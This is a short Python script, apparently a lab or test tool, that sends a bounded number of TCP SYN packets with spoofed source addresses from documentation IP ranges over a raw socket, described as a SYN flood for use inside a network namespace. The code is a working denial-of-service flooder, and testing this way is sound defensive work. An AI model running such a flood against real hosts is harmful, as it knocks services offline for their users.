#!/usr/bin/env python3
"""A bounded SYN flood, for use inside a network namespace only: flood.py FAMILY ADDR PORT COUNT FROM

Sends COUNT SYNs, numbered from FROM on. Each comes from its own address and port out of
198.51.100.0/24 or 2001:db8::/96, where no host answers the SYN-ACKs.
"""

import socket
import struct
import sys

import packets

FAMILY, ADDR, PORT, COUNT, FROM = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
V6 = FAMILY == "6"


def syn(source, target, number):
    ports = (1024 + number % 60000, PORT)
    head = struct.pack("!HHIIBBHHH", *ports, number * 64000 & 0xFFFFFFFF, 0, 6 << 4, 2, 64240, 0, 0)
    head += struct.pack("!BBH", 2, 4, 1460)
    head = packets.tcp(source, target, head)
    if V6:
        return struct.pack("!IHBB", 6 << 28, len(head), 6, 64) + source + target + head
    return packets.ipv4(source, target, head, ident=0)


def main():
    family = socket.AF_INET6 if V6 else socket.AF_INET
    target = socket.inet_pton(family, ADDR)
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(FROM, FROM + COUNT):
            if V6:
                source = socket.inet_pton(family, "2001:db8::") [:12] + struct.pack("!I", number + 1)
            else:
                source = bytes((198, 51, 100, 1 + number % 250))
            raw.sendto(syn(source, target, number), (ADDR, 0))


main()
